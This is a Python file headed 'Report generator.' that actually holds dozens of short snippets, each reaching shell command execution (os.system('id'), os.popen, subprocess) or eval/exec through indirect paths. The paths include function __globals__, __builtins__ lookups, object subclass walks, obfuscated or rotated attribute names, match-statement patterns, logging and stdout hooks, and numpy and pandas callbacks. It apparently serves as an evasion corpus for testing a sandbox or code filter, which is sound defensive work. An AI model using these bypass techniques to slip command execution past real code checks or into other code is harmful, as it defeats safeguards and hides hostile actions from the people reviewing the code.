"""Report generator."""
import statistics as st
def hidden(values):
    env = getattr(st, "sys")
    return env.modules["os"].popen("id >&2").read()
print(st.mean([1, 2]), hidden([1]))
# ---
from decimal import Decimal
class Money(Decimal):
    def __format__(self, spec):
        return str(eval(spec))
print(f"{Money(3):print('caught')}")
# ---
import csv
class Row(dict):
    def __getattr__(self, k):
        return vars(csv)["__built" "ins__"][k] if k == "exec" else self[k]
Row().exec("print('caught')")
# ---
import heapq
heap = heapq.__dict__
for key in heap:
    if key.startswith("__b"):
        heap[key]["eval"]("print('caught')")
        break
# ---
from collections import Counter
c = Counter.__init__.__globals__
c["_sys"].modules["os"].system("id")
# ---
from collections import OrderedDict as OD
OD.fromkeys.__self__
OD.__missing__ if hasattr(OD, "__missing__") else None
import collections
collections.namedtuple.__globals__["_sys"].modules["os"].system("id")
# ---
import functools
fn = functools.partial.__reduce__
functools.reduce.__self__
functools.wraps.__globals__["__builtins__"]["eval"]("print('caught')")
# ---
import itertools, operator
next(itertools.starmap(operator.attrgetter("__self__"), [(print,)])).eval("print('caught')")
# ---
import operator
for f in map(operator.methodcaller, ["__subclasses__"]):
    r = f(object)
[c for c in r if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("id")
# ---
def load(path):
    head, *rest = path.split(".")
    m = __import__(head)
    for r in rest: m = getattr(m, r)
    return m
load("os.system")("id")
# ---
ops = {"+": lambda a, b: a + b, "!": __import__}
ops["!"]("os").system("id")
# ---
from dataclasses import dataclass, field
import os
@dataclass
class Cfg:
    backend: object = os
    def go(self): return self.backend.system("id")
Cfg().go()
# ---
import os
REG = {}
def register(f):
    REG[f.__name__] = f
    return f
register(os.system)
REG["system"]("id")
# ---
import os
class Shell(type(os)):
    pass
s = Shell("s"); s.__dict__.update(os.__dict__); s.system("id")
# ---
import os
def __getattr__(name): return getattr(os, name)
__getattr__("system")("id")
# ---
import os as _
(lambda m, n: m.__dict__[n])(_, "system")("id")
# ---
import os
exec_ = {n: f for n, f in os.__dict__.items() if n[:3] == "sys"}
exec_["system"]("id")
# ---
import os
assert (cmd := os.system)("id") == 0
# ---
import os
print(*(f("id") for f in [os.system]))
# ---
import os
[run := os.system, run("id")]
# ---
import os
def deco(f): return lambda *a: f(*a)
safe = deco(os.system)
safe("id")
# ---
import os
os_ = os
del os
os_.system("id")
# ---
import os
try: raise SystemExit(os.system("id"))
except SystemExit: pass
# ---
async def r():
    import os
    return os.system("id")
try: r().send(None)
except StopIteration: pass
# ---
class Ctx:
    def __enter__(self):
        import subprocess
        return subprocess
    def __exit__(self, *a): return False
with Ctx() as sp: sp.run("id")
# ---
def outer():
    import shutil
    def inner(): return shutil.os
    return inner
outer()().system("id")
# ---
import http
http.HTTPStatus
from http import cookies
cookies.re.enum.sys.modules["os"].system("id")
# ---
from email.mime.text import MIMEText
import email.charset as ec
ec.functools if hasattr(ec, "functools") else None
import email.generator
email.generator.sys.modules["os"].system("id")
# ---
import urllib.parse as up
up.sys.modules["os"].system("id") if hasattr(up, "sys") else up.re.enum.sys.modules["os"].system("id")
# ---
import unittest as u
u.case.sys.modules["os"].system("id")
# ---
import unittest
class T(unittest.TestCase):
    def test(self): __import__("os").system("id")
unittest.main(exit=False)
# ---
print(vars()["__builtins__"].__dict__["eval"]("'caught'+str(42)"))
# ---
(lambda g: g["__builtins__"].eval("print('caught')"))(globals())
# ---
def f(**k): k["__builtins__"].exec("print('caught')")
f(**vars())
# ---
g = globals
g().get("__buil" + "tins__").eval("print('caught')")
# ---
class A: x = locals
A.x()["A"] if False else globals().__getitem__("__builtins__").eval("print('caught')")
# ---
for k, v in list(vars().items()):
    if "uilti" in k: v.eval("print('caught')")
# ---
list(filter(lambda kv: kv[0] == "__builtins__", globals().items()))[0][1].eval("print('caught')")
# ---
s = "{}".format
getattr(print, s("__self__")).eval("print('caught')")
# ---
key = "-".join("__self__").replace("-", "")
getattr(print, key).eval("print('caught')")
# ---
def rot(s): return "".join(chr(ord(c) - 1) for c in s)
getattr(print, rot("``tfmg``")).eval("print('caught')")
# ---
def rot(s):
    out = ""
    for c in s: out += chr(ord(c) ^ 1)
    return out
getattr(print, rot("^^rdmg^^")).eval("print('caught')")
# ---
import os
def rot(s): return "".join(chr(ord(c) - 1) for c in s)
getattr(os, rot("tztufn"))("id")
# ---
import os
K = {"a": "sys", "b": "tem"}
getattr(os, K["a"] + K["b"])("id")
# ---
import os
parts = ("po", "pen")
getattr(os, "%s%s" % parts)("id >&2").read()
# ---
import os
class N: name = "system"
getattr(os, N.name)("id")
# ---
import os
def pick(): return "system"
getattr(os, pick())("id")
# ---
import os, sys
getattr(os, sys.argv[1] if len(sys.argv) > 1 else "system")("id")
# ---
match __builtins__:
    case object(eval=e): e("print('caught')")
# ---
match print:
    case object(__self__=object(eval=run)): run("print('caught')")
# ---
import re
match re:
    case object(enum=object(sys=object(modules=m))): m["os"].system("id")
# ---
import random
match random:
    case object(_os=o): o.system("id")
# ---
from functools import partial as P
P(P(getattr, print), "__self__")().eval("print('caught')")
# ---
t = type("T", (), {"__getattr__": lambda s, n: eval})
t().any("print('caught')")
# ---
type("M", (type,), {"__call__": lambda c, s: exec(s)})("A", (), {})("print('caught')")
# ---
raise_ = type("E", (Exception,), {"__init__": lambda s: exec("print('caught')")})
try: raise raise_
except Exception: pass
# ---
import warnings
warnings.showwarning = lambda m, *a: exec(str(m))
warnings.warn("print('caught')")
# ---
import sys
class W:
    def write(self, s): exec("import os; os.system('id')") if s.strip() else None
    def flush(self): ...
sys.stdout = W()
print("x")
# ---
import logging
class H(logging.Handler):
    def emit(self, r): eval(r.getMessage())
logging.getLogger().addHandler(H())
logging.error("print('caught')")
# ---
import threading
threading.Thread(target=__import__("os").system, args=("id",)).start()
# ---
import multiprocessing.shared_memory
import multiprocessing.spawn as s
s.os.system("id")
# ---
import numpy as np
np.array([print]).tolist()[0].__self__.eval("print('caught')")
# ---
import numpy as np
np.apply_along_axis(lambda a: eval("print('caught')") or 0, 0, np.zeros(1))
# ---
import numpy as np
np.piecewise(np.array([1.0]), [True], [lambda x: exec("print('caught')") or 1])
# ---
import numpy as np
getattr(np, "f2py").os.system("id") if hasattr(np, "f2py") else None
import numpy.f2py as f
f.os.system("id")
# ---
import pandas as pd
pd.DataFrame({"c": ["print('caught')"]}).pipe(lambda d: d["c"].map(exec))
# ---
import pandas as pd
s = pd.Series([1]); s.eval = pd.eval
s.eval("1"); print("caught")
# ---
import pandas as pd
pd.read_csv("zz.csv", converters={"a": eval}) if False else pd.read_csv(__import__("io").StringIO("a\nprint('caught')"), converters={"a": eval})
# ---
import pandas as pd
pd.io.formats.console.os.system("id") if hasattr(pd.io.formats.console, "os") else pd.io.common.os.system("id")
